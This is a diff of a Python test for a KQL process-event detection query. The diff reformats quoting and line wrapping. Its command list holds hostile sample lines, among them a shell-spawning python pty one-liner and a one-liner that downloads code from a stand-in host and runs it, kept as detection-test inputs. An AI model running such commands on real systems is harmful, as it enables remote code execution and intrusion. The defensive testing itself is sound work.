@@ -19,7 +19,7 @@ QUERY = Path(__file__).parent / "cases" / "kql" / CASE / "query.kql"
 COMMANDS = [
     "python3 -c 'import socket,pty;pty.spawn(\"/bin/sh\")'",
     "python3 /usr/bin/shutdown",
-    'python -c "import urllib.request as r;exec(r.urlopen(\'http://x/\').read())"',
+    "python -c \"import urllib.request as r;exec(r.urlopen('http://x/').read())\"",
     "python -c 'reimport sockets'",
     "python -c 'myexec(1)'",
     "python -m http.server",
@@ -62,12 +62,16 @@ def test_the_published_query_gives_the_same_rows() -> None:
     connection.register("DeviceProcessEvents", table)
     theirs = duckdb_kql.kql(connection, text).fetchall()
     columns = tuple(
-        Column(f.name, ColumnType.DATETIME if f.name == "Timestamp" else ColumnType.STRING) for f in table.schema
+        Column(f.name, ColumnType.DATETIME if f.name == "Timestamp" else ColumnType.STRING)
+        for f in table.schema
     )
-    plan = kql.compile(SourceText(text), Catalog({"DeviceProcessEvents": Schema("DeviceProcessEvents", columns)}))
+    plan = kql.compile(
+        SourceText(text), Catalog({"DeviceProcessEvents": Schema("DeviceProcessEvents", columns)})
+    )
     clock = int(now.replace(tzinfo=UTC).timestamp()) * 10**9
     ours = engine.run(plan, {"DeviceProcessEvents": table}, clock)
     times = ours.column(0).cast(pa.timestamp("us")).to_pylist()
-    rows = [(time, *row) for time, row in zip(times, zip(*(c.to_pylist() for c in ours.columns[1:])), strict=True)]
+    others = zip(*(column.to_pylist() for column in ours.columns[1:]), strict=True)
+    rows = [(time, *row) for time, row in zip(times, others, strict=True)]
     assert rows == [tuple(row) for row in theirs]
     assert len(rows) > 20
